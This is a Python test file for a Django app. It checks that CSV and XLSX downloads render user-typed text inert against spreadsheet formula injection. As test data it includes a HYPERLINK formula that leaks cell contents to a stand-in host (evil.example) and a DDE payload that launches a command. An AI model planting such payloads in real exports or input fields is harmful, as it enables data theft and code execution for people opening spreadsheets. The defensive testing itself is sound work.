"""Text people typed comes out of every CSV and XLSX download inert, never as a live formula.

A spreadsheet runs a cell starting with "=", "+", "-" or "@" (some also a tab or a carriage
return) as a formula, so a service called `=HYPERLINK("http://evil.example","Click")` would be a
live link in a manager's download. OWASP's advice, which every writer follows: a single quote in
front of such text (and, in CSV, the field in double quotes). Real numbers stay numbers.

Each download is read back the way a person's tools read it: CSV with Python's csv module, XLSX
with openpyxl (a formula would have data_type "f").
"""

import csv
import datetime
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from coproduce.core.spreadsheets import FORMULA_STARTS, inert_text, restored_text
from coproduce.directory.hsds.exporter import export_tabular
from coproduce.directory.hsds.importer import import_hsds_tabular
from coproduce.directory.models import Phone, Service
from coproduce.referrals.models import Referral
from coproduce.reporting.exports import ExportTable, to_csv, to_xlsx
from coproduce.research.models import Code, Quote, SurveyQuestion
from tests.directory.factories import LocationFactory
from tests.personas import Personas
from tests.referrals.factories import PartnerEntryFactory, PartnerServiceFactory, ReferralFactory

ClientFor = Callable[[str], Client]
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for help")'
# One dangerous text for each character a spreadsheet may start a formula with.
DANGEROUS = ["=1+2", "+44 1592 000000", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list[list[Any]]:
    """Every cell as (value, data_type), row by row."""
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def assert_no_formula(cells: list[list[Any]]) -> None:
    assert [value for row in cells for value, data_type in row if data_type == "f"] == []


# The writers ---------------------------------------------------------------------------------


def test_the_formula_characters_are_owasps() -> None:
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_dangerous_text_gets_a_quote_in_front_and_comes_back(text: str) -> None:
    assert inert_text(text) == "'" + text
    assert restored_text(inert_text(text)) == text


@pytest.mark.parametrize("text", ["Money advice", "", "'quoted", "5 days", "2024-03-01", "'=already quoted"])
def test_restoring_gives_back_any_text(text: str) -> None:
    assert restored_text(inert_text(text)) == text


def test_safe_text_is_left_alone() -> None:
    assert inert_text("Money advice") == "Money advice"
    assert inert_text("5 days") == "5 days"
    assert inert_text("Fife = good") == "Fife = good"


TABLE = ExportTable(
    slug="mixed",
    title="Mixed",
    columns=("Name", "Count", "Money", "Note"),
    rows=(
        (LINK, 3, Decimal("12.50"), "-5 days"),
        ("@SUM(A1:A9)", -4, Decimal("-7.25"), "+44 1592 000000"),
        ("Plain", 0, None, "\t=1+2"),
    ),
)


def test_csv_text_is_quoted_and_inert_and_numbers_stay_numbers() -> None:
    content = to_csv(TABLE)

    assert csv_rows(content) == [
        ["Name", "Count", "Money", "Note"],
        ["'" + LINK, "3", "12.50", "'-5 days"],
        ["'@SUM(A1:A9)", "-4", "-7.25", "'+44 1592 000000"],
        ["Plain", "0", "", "'\t=1+2"],
    ]
    lines = content.decode("utf-8-sig").split("\r\n")
    # Text is in double quotes (so no separator inside it can start a new cell); numbers are bare.
    assert lines[2] == '"\'@SUM(A1:A9)",-4,-7.25,"\'+44 1592 000000"'


def test_xlsx_text_is_inert_and_numbers_stay_numbers() -> None:
    cells = xlsx_cells(to_xlsx(TABLE))

    assert_no_formula(cells)
    assert cells[1] == [("'" + LINK, "s"), (3, "n"), (12.5, "n"), ("'-5 days", "s")]
    assert cells[2] == [("'@SUM(A1:A9)", "s"), (-4, "n"), (-7.25, "n"), ("'+44 1592 000000", "s")]
    assert cells[3][3] == ("'\t=1+2", "s")


def test_a_character_a_spreadsheet_cannot_hold_does_not_break_the_xlsx() -> None:
    table = ExportTable(slug="odd", title="Odd", columns=("Text",), rows=(("Bell\x07 and tab\tend",),))

    assert xlsx_cells(to_xlsx(table))[1] == [("Bell and tab\tend", "s")]


# Through the downloads people use ------------------------------------------------------------


@pytest.fixture
def evil_service(personas: Personas) -> Service:
    """A partner's service and organisation named by someone who meant harm, with a referral
    declined for lack of places so that the dashboard lists both names."""
    entry = PartnerEntryFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", member__name="@SUM(1+1)*cmd|' /C calc'!A0")
    service = PartnerServiceFactory(organization=entry, name=LINK)
    service.partnerships.add(personas.fife)
    ReferralFactory(
        participant=personas.participant,
        service=service,
        sent=True,
        state=Referral.State.DECLINED,
        answered_at=timezone.now(),
        decline_reason=Referral.DeclineReason.NO_CAPACITY,
    )
    return service


def test_the_dashboard_downloads_hold_a_service_name_as_text(evil_service: Service, client_for: ClientFor) -> None:
    client = client_for("partnership_manager")

    rows = csv_rows(client.get("/partnership/dashboard/capacity-declines.csv").content)
    cells = xlsx_cells(client.get("/partnership/dashboard/capacity-declines.xlsx").content)

    assert rows[1] == ["'" + LINK, "'@SUM(1+1)*cmd|' /C calc'!A0", "1"]
    assert_no_formula(cells)
    assert cells[1] == [("'" + LINK, "s"), ("'@SUM(1+1)*cmd|' /C calc'!A0", "s"), (1, "n")]


def test_the_referrals_download_holds_an_organisation_name_as_text(
    evil_service: Service, client_for: ClientFor
) -> None:
    rows = csv_rows(client_for("partnership_manager").get("/partnership/dashboard/referrals.csv").content)

    assert ["'@SUM(1+1)*cmd|' /C calc'!A0", "1", "1"] in rows


def test_the_quote_bank_holds_a_quote_and_its_note_as_text(personas: Personas, client_for: ClientFor) -> None:
    quote = personas.research.quote
    Quote.objects.filter(pk=quote.pk).update(text="=1+2 she said", note="+ chapter 2")
    client = client_for("evaluator")

    rows = csv_rows(client.get(reverse("web:research_quotes_csv")).content)
    cells = xlsx_cells(client.get(reverse("web:research_quotes_xlsx")).content)
    api_rows = csv_rows(client.get(reverse("api-v1:export_research_quotes")).content)
    api_cells = xlsx_cells(client.get(reverse("api-v1:export_research_quotes"), {"format": "xlsx"}).content)

    expected = ["'=1+2 she said", "Service User, Fife, 2015", "Choice", "Choice and control", "'+ chapter 2"]
    assert rows[1] == api_rows[1] == expected
    assert_no_formula(cells)
    assert_no_formula(api_cells)
    assert [value for value, _ in cells[1]] == [value for value, _ in api_cells[1]] == expected


def test_the_coded_segments_hold_a_code_name_and_speaker_as_text(personas: Personas, client_for: ClientFor) -> None:
    story = personas.research
    Code.objects.filter(name="Choice").update(name="@Choice")
    type(story.pat_transcript).objects.filter(pk=story.pat_transcript.pk).update(speaker_label="-Service User")
    client = client_for("evaluator")

    for content in (
        client.get(reverse("web:research_segments_csv")).content,
        client.get(reverse("api-v1:export_research_segments")).content,
    ):
        rows = csv_rows(content)
        choice_rows = [row for row in rows if "'@Choice" in row]
        assert len(choice_rows) == 2
        assert all(row[3] == "'-Service User" for row in choice_rows)


def test_the_survey_results_hold_a_question_as_text(personas: Personas, client_for: ClientFor) -> None:
    story = personas.research
    SurveyQuestion.objects.filter(survey=story.survey, position=2).update(text="=Where do you meet?")

    response = client_for("evaluator").get(reverse("web:research_survey_results_csv", args=[story.survey.pk]))

    questions = {row[0] for row in csv_rows(response.content)[1:]}
    assert "'=Where do you meet?" in questions
    assert "=Where do you meet?" not in questions


@pytest.mark.django_db
def test_the_hsds_data_package_holds_text_inert_and_imports_back_the_same() -> None:
    location = LocationFactory(latitude=-3.19, longitude=-56.1)
    service = PartnerServiceFactory(organization=location.organization, name=LINK)
    Phone.objects.create(service=service, number="+44 1592 000000")

    files = export_tabular()

    services = {row["id"]: row for row in csv.DictReader(io.StringIO(files["services.csv"], newline=""))}
    assert services[str(service.pk)]["name"] == "'" + LINK
    assert '"\'+44 1592 000000"' in files["phones.csv"]
    locations = files["locations.csv"].splitlines()
    # Numbers stay bare numbers: a negative latitude is not text.
    assert any(",-3.19," in line and ",-56.1" in line for line in locations[1:])
    Service.objects.filter(pk=service.pk).update(name="Changed since")
    import_hsds_tabular({name: text.encode() for name, text in files.items()}, actor=None)
    assert Service.objects.get(pk=service.pk).name == LINK
    assert Phone.objects.get(service=service).number == "+44 1592 000000"


def test_dates_and_ordinary_names_are_unchanged(personas: Personas, client_for: ClientFor) -> None:
    """Nothing but dangerous text changes: the table as before, dates as text, counts as numbers."""
    personas.with_referrals()
    rows = csv_rows(client_for("partnership_manager").get("/partnership/dashboard/referrals.csv").content)

    assert rows[0] == ["Organisation", "Proposed", "Sent", "Withdrawn", "All"]
    assert rows[1] == ["Fife Childcare Links", "0", "1", "0", "1"]
    assert datetime.date.today().isoformat() == inert_text(datetime.date.today().isoformat())
